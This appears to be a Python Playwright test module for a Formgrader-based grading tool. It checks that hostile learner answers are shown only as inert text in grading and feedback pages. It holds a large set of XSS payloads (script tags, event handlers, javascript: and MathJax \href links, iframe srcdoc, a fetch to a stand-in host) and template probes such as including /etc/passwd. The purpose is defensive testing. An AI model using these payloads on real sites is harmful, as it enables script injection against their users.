"""In a real Formgrader and in the feedback, what a learner wrote is text and no more, and the button marks as our command does.

The learners' texts hold everything that a page could run, load or follow. Each would leave a mark: `pwned` in the window,
another title, a dialog, a request to an address that nobody has, or an element where only text belongs.
"""

import contextlib
import html
import io
import os
import re
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from axe_playwright_python.sync_playwright import Axe
from defaultmode.grading import settings
from defaultmode.grading.course import Course as Graded
from defaultmode.grading.run import grade
from nbgrader import api
from playwright.sync_api import Locator, expect

from ..classroom import MARKED, QUIZ, WRITTEN, course_folder
from ..test_gradebook import rows
from ..test_rebuild import answers, handed_in
from .lab import SCREEN, Lab, PlainJupyter

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="Windows has no files with the names that are tried here")

BOX = WRITTEN[0].id
LURE = "https://lure.invalid"
RUN = f"window.pwned=1;document.title='pwned';alert(1);fetch('{LURE}/run')"
MATHJAX = Path(os.environ.get("MATHJAX", "/usr/share/javascript/mathjax"))  # version 2; there Debian's libjs-mathjax lies
MATHJAX_ADDRESS = re.compile(r"https://cdnjs\.cloudflare\.com/ajax/libs/mathjax/2\.[\d.]+/([^?]*)")

# Learner → written answer. Whatever opens something that swallows the rest stands last, or has a learner of its own.
TEXTS = {
    "scripts+1@example.org": f"""</pre><script>{RUN}</script>
<script>{RUN}</script>


<SCRIPT/x src="{LURE}/script.js"></SCRIPT>
</textarea></title></style></xmp></noscript><script>{RUN}</script>
<scr<script>ipt>{RUN}</scr</script>ipt>
<svg><script href="{LURE}/svg.js"/></svg><svg onload="{RUN}"></svg>
<template><script>{RUN}</script></template>
<object data="data:text/html,<script>{RUN}</script>"></object><embed src="{LURE}/embed">
<script>/* not closed""",
    "handlers@ODD": f"""<img src=x onerror="{RUN}"><img src="{LURE}/img.png">
<img/src='x'\tonerror\n=\n"{RUN}"><img src=x one\0rror="{RUN}"><img\fsrc=x\fonerror={RUN}>
<body onload="{RUN}"><details open ontoggle="{RUN}">d</details><input autofocus onfocus="{RUN}">
<video src=x onerror="{RUN}"></video><marquee onstart="{RUN}">m</marquee><b onmouseover='{RUN}'>over</b>
<p style="animation: a" onanimationstart="{RUN}"> <a id=MathJax name=formgrader tabindex=0 class="tabbable score">clobbered</a>
<img src=x onerror="{RUN}" not closed""",
    "links": f"""[a](javascript:{RUN}) [b](<java\tscript:{RUN}> "t") ![image]({LURE}/markdown.png)
<a href="javascript:{RUN}">c</a> <a href="&#106;avascript&colon;{RUN}">d</a> <javascript:{RUN}> <{LURE}/auto>
{LURE}/bare www.lure.invalid me@lure.invalid [ref] [d](data:text/html;base64,PHNjcmlwdD4=)
[e](files/e.html) <img src=files/x.png href="files/y">

[ref]: javascript:{RUN}
![ref]

# A heading

- a list   with   spaces
  | a | b |
  |---|---|
*so* **it** ~~is~~ `code` ```` ```html ```` [^1]""",
    "formulas": rf"""$\href{{javascript:{RUN}}}{{x}}$ and $x < y$ and $$\unicode{{x41}}$$
\(\href{{javascript:{RUN}}}{{x}}\) \[ \class{{score}}{{y}} \] \$ \\ $a$
\begin{{equation}}
\style{{position:fixed;inset:0;background:url({LURE}/tex)}}{{z}} \require{{html}} \cssId{{{BOX}}}{{i}}
\end{{equation}}
<math href="javascript:{RUN}"><mtext>m</mtext></math> `$c$` \begin{{align}}a&=b\end{{align}}
$$ not closed""",
    "frames-and-forms": f"""<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<iframe src="javascript:parent.{RUN}"></iframe> <iframe src="{LURE}/iframe"></iframe>
<frameset><frame src="{LURE}/frame"></frameset>
<form action="{LURE}/form"><input name=password type=password><button formaction="javascript:{RUN}">OK</button></form>
<meta http-equiv="refresh" content="0;url={LURE}/refresh"><base href="{LURE}/base/"><link rel=stylesheet href="{LURE}/l.css">
<style>* {{ display: none; background: url({LURE}/style) }}</style> <div style="position:fixed;inset:0">over all</div>
<button class="full-credit">Full credit</button><textarea id="{BOX}-comment">""",
    "templates": f"""{{{{ resources }}}} {{{{ 7 * 7 }}}} {{% raw %}} {{% include '/etc/passwd' %}} {{# a comment #}}
<%= 7 * 7 %> <% alert(1) %> ${{7 * 7}} #{{7 * 7}} {{% block body %}}{{% endblock %}} %matplotlib !ls
&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt; &#60;script&#62; &amp;#60; &nbsp;| &copy; &lt
### BEGIN HIDDEN TESTS
### END HIDDEN TESTS
<!-- BEGIN MARK SCHEME --> <!-- not closed""",
    "cdata": f"""<![CDATA[ <?php {RUN} ?> <!DOCTYPE html>

    four spaces

</pre>


<b>{RUN}</b>

> quoted

---
~~~
not closed""",
    "plain": """One line.
Another line.


    Far below,   with spaces: x < y && a > b; 3 * 4 * 5, “ü”, 你好, 🧠.""",
}
AT_THE_BUTTON = "button+1@example.org"  # whom Formgrader grades
MARKED_BY_HAND = "plain"
EVERYBODY = {**TEXTS, AT_THE_BUTTON: TEXTS["scripts+1@example.org"]}
SHOWN = {learner: re.sub("[\0\f]", "", text) for learner, text in EVERYBODY.items()}  # no page shows these two signs
MISNAMED = f"<img src=x onerror={RUN.split(';')[0]}>.ipynb"

expect.set_options(timeout=30_000)


class Instructor(PlainJupyter):
    """A stock Jupyter, started in the folder of the course: nbgrader reads its configuration there."""

    def command(self) -> list[str]:
        python, *rest = super().command()[2:]
        return [sys.executable, "-c", f"import os; os.chdir({str(self.folder)!r}); {python}", *rest]


def lay(submitted: Path) -> None:
    """Everybody's submission: hostile texts, and answers that are hostile texts where a choice or a number belongs."""
    for learner, text in EVERYBODY.items():
        folder = submitted / learner / QUIZ
        folder.mkdir(parents=True)
        wrong = {item.id: f"<img src=x onerror={RUN}>" for item in MARKED[: len(MARKED) // 2] if learner != "plain"}
        (folder / "answers.json").write_bytes(answers(**wrong))
        (folder / f"{QUIZ}.ipynb").write_bytes(handed_in(text=text))
    folder = submitted / AT_THE_BUTTON / QUIZ
    (folder / f"{QUIZ}.ipynb").rename(folder / MISNAMED)


@pytest.fixture(scope="module")
def ours(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The class as our command grades it."""
    root = tmp_path_factory.mktemp("ours") / "course"
    course_folder(root)
    Graded.open(root, QUIZ).enter()
    shutil.copytree(root, root.with_name("entered"))
    lay(root / "submitted")
    run(root)
    return root


@pytest.fixture(scope="module")
def server(ours: Path) -> Iterator[Instructor]:
    """The instructor's Jupyter on another copy of the course, where one submission has not been graded yet."""
    root = ours.with_name("entered")
    lay(root / "submitted")
    kept = (root / "submitted" / AT_THE_BUTTON).rename(root / "not yet")
    run(root)
    kept.rename(root / "submitted" / AT_THE_BUTTON)
    with Instructor(root, ours.with_name("home")) as running:
        running.submissions = submissions(root)
        yield running


@pytest.fixture(scope="module")
def desk(server: Instructor, browser: object) -> Iterator[object]:
    """The instructor's browser profile, logged in."""
    context = guarded(browser, server.url)
    context.request.get(f"{server.url}tree?token={server.token}")
    yield context
    context.close()


@pytest.fixture
def page(desk: object, server: Instructor) -> Iterator[Lab]:
    """A fresh page of which is noted whatever a learner's text could do; afterwards it has done nothing."""
    watched = watch(desk, server)
    yield watched
    harm = sprung(watched)
    watched.page.close()
    assert harm == []


def guarded(browser: object, own: str, **options: object) -> object:
    """A browser profile that reaches nothing but `own`, and MathJax where there is one."""
    context = browser.new_context(viewport=SCREEN, **options)
    context.route(lambda address: not address.startswith((own, "data:", "blob:")), answer_from_outside)
    context.set_default_timeout(30_000)
    return context


def answer_from_outside(route: object) -> None:
    """MathJax's server, if this machine has MathJax; nothing else is there."""
    asked = MATHJAX_ADDRESS.fullmatch(route.request.url.split("?")[0])
    if asked is None or not MATHJAX.is_dir():
        route.abort()
    elif asked[1] == "latest.js":  # which fetches the latest edition's MathJax.js with the same configuration
        source = html.escape(route.request.url.replace("latest.js", "MathJax.js"))
        route.fulfill(content_type="text/javascript", body=f"document.write('<script src=\"{source}\"><\\/script>')")
    elif (file := MATHJAX / asked[1]).is_file():
        route.fulfill(path=file)
    else:
        route.abort()


def watch(context: object, server: object) -> Lab:
    """A page with notes of its requests, and of dialogs and windows that nobody asked for."""
    watched = Lab(context.new_page(), server)
    watched.page.set_default_timeout(30_000)
    watched.opened = []
    watched.page.on("dialog", lambda dialog: (watched.opened.append(dialog.message), dialog.dismiss()))
    watched.page.on("popup", lambda popup: watched.opened.append(popup.url))
    return watched


def sprung(watched: Lab) -> list[str]:
    """What the learners' texts have done."""
    strangers = [url for url in watched.strangers() if not MATHJAX_ADDRESS.match(url)]
    ran = [frame.url for frame in watched.page.frames if frame.evaluate("'pwned' in window || document.title === 'pwned'")]
    return [*watched.opened, *strangers, *ran]


def run(root: Path) -> None:
    """Grade the whole class with our command."""
    with contextlib.redirect_stdout(io.StringIO()):
        assert grade(QUIZ, root) == 0


def only_text(element: Locator) -> str:
    """The text of an element that holds nothing but text, as it was received and as it is laid out."""
    assert element.evaluate("one => [...one.childNodes].map(node => node.nodeName)") == ["#text"]
    content = element.text_content()
    style = element.evaluate("one => (look => [look.whiteSpaceCollapse, look.wordBreak])(getComputedStyle(one))")
    assert style == ["preserve", "normal"]  # lines stay lines, and no word is cut in two
    assert element.inner_text() == content
    return content


def at_formgrader(watched: Lab, path: str) -> object:
    """A page of Formgrader's, when it has filled its table."""
    watched.page.goto(f"{watched.course.url}formgrader/{path}")
    watched.page.wait_for_function("window.models?.loaded")
    return watched.page


def submission(watched: Lab, learner: str) -> object:
    """Formgrader's page for one submission, which its list of submissions links to."""
    watched.page.goto(f"{watched.course.url}formgrader/submissions/{watched.course.submissions[learner]}/")
    return ready_to_mark(watched.page)


def ready_to_mark(page: object) -> object:
    page.wait_for_function("window.formgrader?.grades?.loaded && formgrader.comments.loaded")
    return page


def written(page: object) -> Locator:
    """Where Formgrader shows a written answer, with the controls for marking it."""
    return page.locator(".nbgrader_cell").filter(has=page.locator(f"#{BOX}"))


# ---- Formgrader -----------------------------------------------------------------------------------------------------


def test_the_autograde_button_gives_exactly_the_marks_of_our_command(page: Lab, server: Instructor, ours: Path):
    here = at_formgrader(page, f"manage_submissions/{QUIZ}")
    row = here.get_by_role("row").filter(has=here.locator(".student-id", has_text=AT_THE_BUTTON))
    expect(row).to_contain_text("needs autograding")
    row.locator(".autograde a").click()
    said = here.locator("#success-modal")
    expect(said).to_contain_text(f"Successfully autograded '{QUIZ}' for student '{AT_THE_BUTTON}'.")
    expect(said).to_contain_text(f"the notebook was called '{MISNAMED[:30]}")
    said.get_by_role("button", name="OK").click()
    expect(row).to_contain_text("needs manual grading")
    assert rows(gradebook(server.folder)) == rows(gradebook(ours))
    assert autograded(server.folder) == autograded(ours)


def test_every_page_of_the_class_shows_odd_names_as_they_are(page: Lab):
    for path in ("manage_assignments", "gradebook", f"gradebook/{QUIZ}", "manage_students"):
        at_formgrader(page, path)
    here = at_formgrader(page, f"manage_submissions/{QUIZ}")
    assert set(EVERYBODY) == set(here.locator(".student-id").all_text_contents())
    here.get_by_role("row").filter(has=here.get_by_text("handlers@ODD")).locator(".student-name a").click()
    here.wait_for_function("window.models?.loaded")
    here.get_by_role("link", name=QUIZ).last.click()
    ready_to_mark(here)
    assert page.course.submissions["handlers@ODD"] in here.url


@pytest.mark.parametrize("learner", TEXTS)
def test_formgrader_shows_a_written_answer_as_the_text_it_is(page: Lab, learner: str):
    here = submission(page, learner)
    answer = written(here).locator(".text_cell_render")
    assert [one.evaluate("one => one.nodeName") for one in answer.locator("*").all()] == ["PRE"]
    assert only_text(answer.locator("pre")) == SHOWN[learner]
    assert here.title() == QUIZ
    assert here.locator(f"[id='{BOX}'], [id='{BOX}-comment']").count() == 2
    assert here.locator(".score").count() == len(MARKED) + len(WRITTEN)
    if learner != "plain":
        assert "Your answer could not be understood." in here.locator(".output_area").first.inner_text()


@pytest.mark.skipif(not MATHJAX.is_dir(), reason="needs MathJax 2: install libjs-mathjax, or name its folder in MATHJAX")
def test_mathjax_leaves_the_learners_formulas_alone(page: Lab):
    here = submission(page, "formulas")
    here.evaluate("MathJax.Hub.Queue(['Typeset', MathJax.Hub], () => null)")
    here.evaluate("document.querySelector('.nbgrader-label').append(' $x^2$')")
    here.evaluate("new Promise(done => MathJax.Hub.Queue(['Typeset', MathJax.Hub], done))")
    assert here.locator(".MathJax_CHTML").count() == 1  # the instructor's, so that MathJax was at work
    assert only_text(written(here).locator("pre")) == SHOWN["formulas"]


def test_jupyterlab_and_its_mathjax_leave_the_learners_formulas_alone(page: Lab):
    """Formgrader links to the graded notebook itself."""
    page.open(f"autograded/formulas/{QUIZ}/{QUIZ}.ipynb", state=None)
    typeset = """async id => {
      const book = window.jupyterapp.shell.currentWidget.content;
      const index = book.widgets.findIndex(cell => cell.model.id === id);
      await book.scrollToItem(index);
      const shown = await new Promise(found => {
        const look = () => book.widgets[index].node.querySelector('.jp-MarkdownOutput pre');
        const watcher = new MutationObserver(() => look() && found(look()));
        watcher.observe(book.node, { childList: true, subtree: true });
        if (look()) found(look());
      });
      shown.insertAdjacentHTML('afterend', '<p>$x^2$</p>');
      await book.rendermime.latexTypesetter.typeset(shown.parentNode);
      return [shown.nextSibling.querySelectorAll('mjx-container').length, shown.childNodes.length, shown.textContent];
    }"""
    assert page.page.evaluate(typeset, BOX) == [1, 1, SHOWN["formulas"]]


def test_a_mark_and_a_comment_given_here_are_kept_and_reach_the_learner(page: Lab, server: Instructor):
    here = at_formgrader(page, f"gradebook/{QUIZ}/{QUIZ}")
    row = here.get_by_role("row").filter(has=here.locator(f"[href$='{server.submissions[MARKED_BY_HAND]}']"))
    row.locator(".reveal .name-hidden").click()
    row.get_by_role("link", name=MARKED_BY_HAND).click()
    box = written(ready_to_mark(here))
    box.locator(".score").click()
    with saved(here, "grade"):
        here.keyboard.insert_text("1.5")  # at one stroke: Formgrader selects what is there when it has scrolled to a field
        here.keyboard.press("Tab")
    box.locator(".comment").click()
    with saved(here, "comment"):
        here.keyboard.insert_text("Clear & to the point: x < y.")
        expect(box.locator(".comment")).to_have_value("Clear & to the point: x < y.")
        here.keyboard.press("Tab")
    run(server.folder)
    at_formgrader(page, f"manage_submissions/{QUIZ}")
    row = here.get_by_role("row").filter(has=here.locator(".student-id", has_text=MARKED_BY_HAND))
    expect(row.locator(".status")).to_have_text("graded")
    feedback = html.unescape((folder_of(server.folder, "feedback", MARKED_BY_HAND) / f"{QUIZ}.html").read_text("utf-8"))
    assert f"Your answer: 1.5 of {WRITTEN[0].possible}" in feedback and "Clear & to the point: x < y." in feedback


def test_these_texts_would_do_harm_if_they_were_shown_as_they_are(desk: object, server: Instructor):
    """Otherwise the tests above would prove nothing."""
    path = folder_of(server.folder, "autograded", "handlers@ODD") / f"{QUIZ}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    sound = path.read_bytes()
    next(cell for cell in notebook.cells if cell.id == BOX).source = TEXTS["handlers@ODD"]
    path.chmod(0o644)
    path.write_text(nbformat.writes(notebook))
    watched = watch(desk, server)
    try:
        submission(watched, "handlers@ODD")
        assert {"1", f"{LURE}/img.png"} <= set(sprung(watched))
    finally:
        watched.page.close()
        path.write_bytes(sound)


# ---- feedback -------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def reader(browser: object) -> Iterator[object]:
    """A learner's browser profile."""
    context = guarded(browser, "file:")
    yield context
    context.close()


@pytest.mark.parametrize("learner", EVERYBODY)
def test_the_feedback_shows_a_written_answer_as_the_text_it_is(reader: object, ours: Path, learner: str):
    watched = watch(reader, SimpleNamespace(url="file:"))
    page = watched.page
    page.goto((folder_of(ours, "feedback", learner) / f"{QUIZ}.html").as_uri())
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        assert only_text(page.locator(f"[id='{BOX}'] blockquote")) == SHOWN[learner]
    assert page.title().startswith("Feedback: ")
    if learner == AT_THE_BUTTON:
        assert f"the notebook was called '{MISNAMED[:30]}" in page.locator("main").inner_text()
    assert page.locator("img, svg, script, iframe, form, object, embed, base, link, [onerror]").count() == 0
    assert sprung(watched) == [] and watched.errors == []
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_in_a_feedback_page(reader: object, ours: Path, scheme: str):
    page = reader.new_page()
    page.emulate_media(color_scheme=scheme)
    page.goto((folder_of(ours, "feedback", "formulas") / f"{QUIZ}.html").as_uri())
    found = Axe().run(page).response["violations"]
    assert [(one["id"], [node["html"][:120] for node in one["nodes"]]) for one in found] == []
    page.close()


# ---- places ---------------------------------------------------------------------------------------------------------


def folder_of(root: Path, step: str, learner: str) -> Path:
    return root / step / learner / QUIZ


def gradebook(root: Path) -> str:
    return f"sqlite:///{root / 'gradebook.db'}"


def submissions(root: Path) -> dict[str, str]:
    """Learner → the id by which Formgrader's addresses name what they handed in."""
    with settings.nbgraders_needs(), api.Gradebook(gradebook(root), "defaultmode") as book:
        return {one.student.id: one.id for one in book.notebook_submissions(QUIZ, QUIZ)}


def autograded(root: Path) -> dict[str, bytes]:
    return {path.parts[-3]: path.read_bytes() for path in (root / "autograded").glob(f"*/{QUIZ}/*.ipynb")}


@contextlib.contextmanager
def saved(page: object, what: str) -> Iterator[None]:
    """Wait until Formgrader's server has kept a ``grade`` or a ``comment``."""
    with page.expect_response(lambda response: f"/api/{what}/" in response.url and response.request.method == "PUT") as kept:
        yield
    assert kept.value.ok
